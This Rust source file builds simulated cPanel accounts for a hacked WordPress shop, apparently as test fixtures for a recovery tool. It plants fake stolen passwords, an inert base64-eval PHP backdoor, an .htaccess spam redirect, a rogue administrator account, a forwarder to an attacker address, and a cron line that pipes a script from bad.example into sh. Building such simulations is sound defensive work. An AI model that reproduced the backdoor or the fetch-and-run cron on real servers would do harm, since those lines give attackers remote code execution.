//! Accounts to simulate: the built-in `demo` (a hacked WordPress shop) and `other`;
//! `demo-basic`, the same shop on a server without PostgreSQL and Web Disk (those roles off,
//! those features off in its package); `demo-nb`, the shop's owner reading in Norwegian; or an account described in a JSON file (`--scenario PATH`, the same shape as `accounts.json`,
//! with `"home_from"` naming a real folder to copy as the home directory).

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use crate::backups::make_archive;
use crate::state::*;

/// The demo's stolen (old) passwords: fake, published, so tests can prove they stop working.
pub const OLD_PASSWORDS: &[(&str, &str)] = &[
    ("email:info@demo-shop.example", "Sommer2024!info"),
    ("email:post@demo-shop.example", "Sommer2024!post"),
    ("email:anna@demo-shop.example", "Anna-katt-1987"),
    ("ftp:backup@demo-shop.example", "backup-ftp-2023"),
    ("ftp:dev@demo-shop.example", "dev-ftp-2022!!"),
    ("mysql:demo_wpuser", "wpdb-Passord-19"),
    ("postgres:demo_stats", "stats-Passord-20"),
    ("webdisk:files@demo-shop.example", "webdisk-Pass-21"),
    ("subaccount:lisa@demo-shop.example", "lisa-Sub-Pass-22"),
    ("cpanel:other", "Annen-Konto-Passord-2026"),
    ("wordpress:admin", "Shop-Admin-2024!"),
    ("wordpress:anna", "Anna-Blogg-2025"),
];

pub fn old(key: &str) -> &'static str {
    OLD_PASSWORDS.iter().find(|(k, _)| *k == key).map(|(_, v)| *v).expect("known demo credential")
}

pub const ATTACK_TIME: &str = "2026-11-18T03:12:00Z";
/// The demo's backups as cPanel names them (`backupID`): two made before the attack (a daily
/// and a weekly one), one made on the day of the attack (cPanel gives only the date, so it may
/// hold the attack: here it does) and one after it.
const CLEAN_BACKUPS: &[&str] = &["2026-11-10", "weekly/2026-11-15"];
const HACKED_BACKUPS: &[&str] = &["2026-11-18", "2026-11-20"];

fn ts(rfc3339: &str) -> SystemTime {
    let t = time::OffsetDateTime::parse(rfc3339, &time::format_description::well_known::Rfc3339).expect("valid time");
    UNIX_EPOCH + Duration::from_secs(t.unix_timestamp() as u64)
}

fn unix(rfc3339: &str) -> i64 {
    time::OffsetDateTime::parse(rfc3339, &time::format_description::well_known::Rfc3339)
        .expect("valid time")
        .unix_timestamp()
}

fn write(path: &Path, text: &str, mtime: &str) {
    fs::create_dir_all(path.parent().expect("has parent")).expect("create folder");
    fs::write(path, text).expect("write demo file");
    let f = fs::File::options().write(true).open(path).expect("open demo file");
    f.set_modified(ts(mtime)).expect("set mtime");
}

fn salts() -> String {
    crate::util::WP_SALT_NAMES
        .iter()
        .enumerate()
        .map(|(i, k)| format!("define( '{k}', 'q{i}Zr8+vN|p2@Lw)Xe5#sT!m9Yb^Hc4&Jd7*Kf1~Gg3%Aa6_Ss0=Ww{i}' );\n"))
        .collect()
}

/// The demo's site: files that look like WordPress, or a real WordPress on the private MariaDB.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Site {
    StandIn,
    Real,
}

/// The shop's own theme, complete (WordPress shows its front page with it).
const SHOP_THEME_INDEX: &str = "<?php /* The shop's front page. */ ?><!doctype html>\n<html <?php language_attributes(); ?>>\n<head><meta charset=\"utf-8\"><title><?php bloginfo( 'name' ); ?></title><?php wp_head(); ?></head>\n<body>\n<h1><?php bloginfo( 'name' ); ?></h1>\n<?php while ( have_posts() ) : the_post(); ?><article><h2><?php the_title(); ?></h2><?php the_content(); ?></article><?php endwhile; ?>\n<?php wp_footer(); ?>\n</body>\n</html>\n";

fn clean_site(doc: &Path, site: Site) -> std::io::Result<()> {
    let t = "2026-10-01T10:00:00Z";
    let db_host = match (site, crate::mariadb::socket()) {
        (Site::Real, Some(sock)) => format!("localhost:{}", sock.display()),
        _ => "localhost".to_owned(),
    };
    write(
        &doc.join("index.php"),
        "<?php\n/** Front to the WordPress application. */\ndefine( 'WP_USE_THEMES', true );\nrequire __DIR__ . '/wp-blog-header.php';\n",
        t,
    );
    write(&doc.join("wp-blog-header.php"), "<?php\nrequire_once __DIR__ . '/wp-load.php';\nwp();\n", t);
    write(
        &doc.join("wp-load.php"),
        "<?php\ndefine( 'ABSPATH', __DIR__ . '/' );\nrequire_once ABSPATH . 'wp-config.php';\n",
        t,
    );
    write(
        &doc.join("wp-config.php"),
        &format!(
            "<?php\n/**\n * The base configuration for WordPress\n */\n\n// ** Database settings ** //\ndefine( 'DB_NAME', 'demo_wp' );\ndefine( 'DB_USER', 'demo_wpuser' );\ndefine( 'DB_PASSWORD', '{}' );\ndefine( 'DB_HOST', '{}' );\ndefine( 'DB_CHARSET', 'utf8mb4' );\ndefine( 'DB_COLLATE', '' );\n\n{}\n$table_prefix = 'wp_';\n\ndefine( 'WP_DEBUG', false );\n\nif ( ! defined( 'ABSPATH' ) ) {{\n\tdefine( 'ABSPATH', __DIR__ . '/' );\n}}\nrequire_once ABSPATH . 'wp-settings.php';\n",
            old("mysql:demo_wpuser"),
            db_host,
            salts()
        ),
        t,
    );
    if site == Site::StandIn {
        write(&doc.join("wp-includes/version.php"), "<?php\n$wp_version = '6.8.3';\n", t);
    }
    write(&doc.join("wp-content/themes/shop/style.css"), "/* Theme Name: Shop */\nbody{font-family:sans-serif}\n", t);
    write(
        &doc.join("wp-content/themes/shop/functions.php"),
        "<?php\nadd_action( 'wp_enqueue_scripts', function () {\n\twp_enqueue_style( 'shop', get_stylesheet_uri() );\n} );\n",
        t,
    );
    write(
        &doc.join("wp-content/plugins/contact-form/contact-form.php"),
        "<?php\n/* Plugin Name: Contact Form (old version with an upload hole) */\nfunction cf_render() { return '<form>…</form>'; }\n",
        t,
    );
    write(&doc.join("wp-content/uploads/2026/10/logo.png"), "\u{89}PNG demo image", t);
    write(
        &doc.join(".htaccess"),
        "# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteCond %{REQUEST_FILENAME} !-d\nRewriteRule . /index.php [L]\n</IfModule>\n# END WordPress\n",
        t,
    );
    if site == Site::Real {
        real_wordpress(doc, t)?;
    }
    Ok(())
}

/// WordPress's own core over the stand-in's entry files, the shop theme made complete, and
/// `wp_install()` on the private MariaDB: the owner (administrator), Anna (author, can
/// upload), and an administrator the attacker added ten minutes into the attack.
fn real_wordpress(doc: &Path, t: &str) -> std::io::Result<()> {
    crate::wordpress::copy_core(doc, ts(t))?;
    write(&doc.join("wp-content/themes/shop/index.php"), SHOP_THEME_INDEX, t);
    let attacker = random_password();
    let users = [
        crate::wordpress::User {
            login: "admin",
            role: "administrator",
            email: "owner@demo-shop.example",
            password: old("wordpress:admin"),
            registered: "2024-03-01 09:00:00",
        },
        crate::wordpress::User {
            login: "anna",
            role: "author",
            email: "anna@demo-shop.example",
            password: old("wordpress:anna"),
            registered: "2025-02-11 14:30:00",
        },
        crate::wordpress::User {
            login: "wp-support",
            role: "administrator",
            email: "support@wp-helpdesk.bad.example",
            password: &attacker,
            registered: "2026-11-18 03:22:00",
        },
    ];
    crate::wordpress::install(doc, "demo_wp", "demo_wpuser", old("mysql:demo_wpuser"), "Demo shop", &users)
        .map_err(std::io::Error::other)
}

/// What the attacker added (inert: the backdoor exits before doing anything).
fn hack(doc: &Path) {
    let t = "2026-11-18T03:30:00Z";
    write(
        &doc.join("wp-content/uploads/2026/11/cache-img.php"),
        "<?php exit; /* simulated backdoor for the demo, inert */ @eval(base64_decode($_POST[\"k\"]));\n",
        t,
    );
    let bad = "RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} (googlebot|bingbot) [NC,OR]\nRewriteCond %{HTTP_REFERER} (google|bing)\\. [NC]\nRewriteRule ^(.*)$ https://cheap-pills.bad.example/?r=$1 [R=302,L]\n";
    let htaccess = fs::read_to_string(doc.join(".htaccess")).unwrap_or_default();
    write(&doc.join(".htaccess"), &format!("{bad}{htaccess}"), t);
}

pub fn demo(state_dir: &Path, site: Site) -> std::io::Result<(World, String)> {
    let home = state_dir.join("home/demo");
    let doc = home.join("public_html");
    let blog = home.join("demo-blog.example");
    fs::create_dir_all(&home)?;
    clean_site(&doc, site)?;
    write(&blog.join("index.html"), "<!doctype html><title>Blog</title><h1>Blog</h1>\n", "2026-10-01T10:00:00Z");

    // A clean backup before the attack, then the attack, then a backup that includes it.
    let staging = state_dir.join("staging");
    let _ = fs::remove_dir_all(&staging);
    copy_dir(&home, &staging)?;
    let mut backups = Vec::new();
    // Backups of the same files are the same archive (made once, copied).
    let mut archive = |ids: &[&str]| -> std::io::Result<()> {
        let first = state_dir.join(format!("backup/{}/accounts/demo.tar.gz", ids[0]));
        make_archive(&staging, &first)?;
        for id in ids {
            let path = state_dir.join(format!("backup/{id}/accounts/demo.tar.gz"));
            if path != first {
                fs::create_dir_all(path.parent().expect("has parent"))?;
                fs::copy(&first, &path)?;
            }
            backups.push(Backup { id: (*id).to_owned(), archive: path });
        }
        Ok(())
    };
    archive(CLEAN_BACKUPS)?;
    hack(&doc);
    fs::remove_dir_all(&staging)?;
    copy_dir(&home, &staging)?;
    archive(HACKED_BACKUPS)?;
    fs::remove_dir_all(&staging)?;

    let password = random_password();
    let domain = "demo-shop.example";
    let mailbox = |local: &str| Mailbox {
        email: format!("{local}@{domain}"),
        password: Hash::of(old(&format!("email:{local}@{domain}"))),
        suspended_login: false,
        suspended_incoming: false,
    };
    let demo = Account {
        user: "demo".into(),
        password: Hash::of(&password),
        suspended: false,
        locale: "en".into(),
        // On the account's own domain, as many customers have it: its mailbox is held, so the
        // release e-mail goes to the second address.
        contact_email: "owner@demo-shop.example".into(),
        contact_email_2: "shop.owner@isp-mail.example".into(),
        home: home.clone(),
        main_domain: Domain { domain: domain.into(), documentroot: doc.clone(), php_version: "ea-php74".into() },
        addon_domains: vec![Domain {
            domain: "demo-blog.example".into(),
            documentroot: blog,
            php_version: "ea-php83".into(),
        }],
        sub_domains: Vec::new(),
        parked_domains: Vec::new(),
        mailboxes: vec![mailbox("info"), mailbox("post"), mailbox("anna")],
        forwarders: vec![
            Forwarder { dest: format!("post@{domain}"), forward: "owner@demo-shop.example".into() },
            Forwarder { dest: format!("info@{domain}"), forward: "collector@bad.example".into() },
        ],
        filters: vec![Filter { account: format!("anna@{domain}"), filtername: "newsletters".into() }],
        ftp: vec![
            FtpAccount { user: "demo".into(), kind: "main".into(), homedir: home.clone(), password: None },
            FtpAccount {
                user: format!("backup@{domain}"),
                kind: "sub".into(),
                homedir: home.join("backups"),
                password: Some(Hash::of(old("ftp:backup@demo-shop.example"))),
            },
            FtpAccount {
                user: format!("dev@{domain}"),
                kind: "sub".into(),
                homedir: doc.clone(),
                password: Some(Hash::of(old("ftp:dev@demo-shop.example"))),
            },
            FtpAccount {
                user: "anonymous".into(),
                kind: "anonymous".into(),
                homedir: home.join("public_ftp"),
                password: None,
            },
            FtpAccount {
                user: "demo_logs".into(),
                kind: "logaccess".into(),
                homedir: home.join("logs"),
                password: None,
            },
        ],
        mysql_users: vec![DbUser {
            user: "demo_wpuser".into(),
            password: Hash::of(old("mysql:demo_wpuser")),
            databases: vec!["demo_wp".into()],
        }],
        mysql_databases: vec!["demo_wp".into()],
        postgres_users: vec![DbUser {
            user: "demo_stats".into(),
            password: Hash::of(old("postgres:demo_stats")),
            databases: vec!["demo_stats".into()],
        }],
        webdisk: vec![WebDiskUser {
            login: format!("files@{domain}"),
            homedir: home.join("files"),
            password: Hash::of(old("webdisk:files@demo-shop.example")),
        }],
        subaccounts: vec![SubAccount {
            username: "lisa".into(),
            domain: domain.into(),
            password: Hash::of(old("subaccount:lisa@demo-shop.example")),
        }],
        tokens: vec![Token {
            name: "deploy".into(),
            create_time: unix("2026-09-01T12:00:00Z"),
            secret: Hash::of("DEPLOYTOKENDEMO0000000000000000"),
        }],
        ssh_keys: vec![SshKey {
            name: "laptop".into(),
            key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoKeyForTheSimulator0000000000 owner@laptop".into(),
            mtime: unix("2026-08-01T09:00:00Z"),
            authorized: true,
        }],
        cron: vec![
            CronJob {
                minute: "0".into(),
                hour: "3".into(),
                day: "*".into(),
                month: "*".into(),
                weekday: "*".into(),
                command: "/usr/local/bin/php /home/demo/public_html/wp-cron.php".into(),
            },
            CronJob {
                minute: "*/10".into(),
                hour: "*".into(),
                day: "*".into(),
                month: "*".into(),
                weekday: "*".into(),
                command: "curl -s http://bad.example/k.sh | sh".into(),
            },
        ],
        two_factor: false,
        strength: BTreeMap::from([("passwd".to_string(), 65), ("virtual".to_string(), 60), ("mysql".to_string(), 50)]),
        backups,
        features_off: BTreeSet::new(),
        roles_off: BTreeSet::new(),
    };
    let other_home = state_dir.join("home/other");
    write(&other_home.join("public_html/index.html"), "<!doctype html><title>Other</title>\n", "2026-10-01T10:00:00Z");
    let other = Account {
        user: "other".into(),
        password: Hash::of(old("cpanel:other")),
        suspended: false,
        locale: "nb".into(),
        contact_email: "eier@other.example".into(),
        contact_email_2: String::new(),
        home: other_home.clone(),
        main_domain: Domain {
            domain: "other.example".into(),
            documentroot: other_home.join("public_html"),
            php_version: "ea-php83".into(),
        },
        addon_domains: Vec::new(),
        sub_domains: Vec::new(),
        parked_domains: Vec::new(),
        mailboxes: Vec::new(),
        forwarders: Vec::new(),
        filters: Vec::new(),
        ftp: vec![FtpAccount { user: "other".into(), kind: "main".into(), homedir: other_home, password: None }],
        mysql_users: Vec::new(),
        mysql_databases: Vec::new(),
        postgres_users: Vec::new(),
        webdisk: Vec::new(),
        subaccounts: Vec::new(),
        tokens: Vec::new(),
        ssh_keys: Vec::new(),
        cron: Vec::new(),
        two_factor: true,
        strength: BTreeMap::new(),
        backups: Vec::new(),
        features_off: BTreeSet::new(),
        roles_off: BTreeSet::new(),
    };
    let world = World::new(BTreeMap::from([("demo".to_string(), demo), ("other".to_string(), other)]));
    Ok((world, password))
}

/// `demo-basic`: the demo shop on a server whose profile has no PostgreSQL and no Web Disk
/// (roles `PostgresClient` and `WebDisk` off) and whose package lacks those features, so the
/// account has neither: cPanel refuses `Postgresql::*` and `WebDisk::*` for it.
pub fn demo_basic(state_dir: &Path, site: Site) -> std::io::Result<(World, String)> {
    let (mut world, password) = demo(state_dir, site)?;
    if let Some(a) = world.accounts.get_mut("demo") {
        a.postgres_users.clear();
        a.webdisk.clear();
        a.roles_off = BTreeSet::from(["PostgresClient".to_string(), "WebDisk".to_string()]);
        a.features_off = BTreeSet::from(["postgres".to_string(), "webdisk".to_string()]);
    }
    Ok((world, password))
}

/// `demo-nb`: the same hacked shop, its owner reading cPanel in Norwegian Bokmål.
pub fn demo_nb(state_dir: &Path, site: Site) -> std::io::Result<(World, String)> {
    let (mut world, password) = demo(state_dir, site)?;
    if let Some(a) = world.accounts.get_mut("demo") {
        a.locale = "nb".into();
    }
    Ok((world, password))
}

/// `demo-many`: the demo shop with 600 more mailboxes (`box1@…` to `box600@…`, old password
/// `Box-N-Old-Pass-2024`), for applies that need several `Batch::strict` chunks.
pub fn demo_many(state_dir: &Path, site: Site) -> std::io::Result<(World, String)> {
    let (mut world, password) = demo(state_dir, site)?;
    if let Some(a) = world.accounts.get_mut("demo") {
        for i in 1..=600 {
            a.mailboxes.push(Mailbox {
                email: format!("box{i}@demo-shop.example"),
                password: Hash::of(&format!("Box-{i}-Old-Pass-2024")),
                suspended_login: false,
                suspended_incoming: false,
            });
        }
    }
    Ok((world, password))
}

/// An account file: a `World` JSON whose accounts may name `home_from`, a folder copied as
/// the home directory. Passwords in the file are given in plaintext under `"password_plain"`
/// fields and hashed on load.
pub fn from_file(path: &Path, state_dir: &Path) -> std::io::Result<(World, String)> {
    let text = fs::read_to_string(path)?;
    let mut raw: serde_json::Value = serde_json::from_str(&text).map_err(std::io::Error::other)?;
    let mut first_password = String::new();
    let accounts = raw
        .get_mut("accounts")
        .and_then(|a| a.as_object_mut())
        .ok_or_else(|| std::io::Error::other("scenario needs an \"accounts\" object"))?;
    for (name, acct) in accounts.iter_mut() {
        let home = state_dir.join("home").join(name);
        if let Some(from) = acct.get("home_from").and_then(|v| v.as_str()) {
            copy_dir(&PathBuf::from(from), &home)?;
        }
        fs::create_dir_all(&home)?;
        acct["home"] = serde_json::json!(home);
        hash_plain(acct, &mut first_password);
    }
    let world: World = serde_json::from_value(raw).map_err(std::io::Error::other)?;
    Ok((world, first_password))
}

/// Replaces every `"password_plain": "x"` by `"password": <hash>` (recursively).
fn hash_plain(v: &mut serde_json::Value, first: &mut String) {
    match v {
        serde_json::Value::Object(m) => {
            if let Some(p) = m.remove("password_plain").and_then(|p| p.as_str().map(str::to_owned)) {
                if first.is_empty() {
                    *first = p.clone();
                }
                m.insert("password".into(), serde_json::to_value(Hash::of(&p)).expect("hash serializes"));
            }
            m.values_mut().for_each(|x| hash_plain(x, first));
        }
        serde_json::Value::Array(a) => a.iter_mut().for_each(|x| hash_plain(x, first)),
        _ => {}
    }
}

pub fn random_password() -> String {
    crate::util::random_password()
}

pub fn copy_dir(from: &Path, to: &Path) -> std::io::Result<()> {
    fs::create_dir_all(to)?;
    for e in fs::read_dir(from)? {
        let e = e?;
        let ft = e.file_type()?;
        let dst = to.join(e.file_name());
        if ft.is_dir() {
            copy_dir(&e.path(), &dst)?;
        } else if ft.is_file() {
            fs::copy(e.path(), &dst)?;
            if let Ok(m) = e.metadata().and_then(|m| m.modified()) {
                let _ = fs::File::options().write(true).open(&dst).and_then(|f| f.set_modified(m));
            }
        }
    }
    Ok(())
}
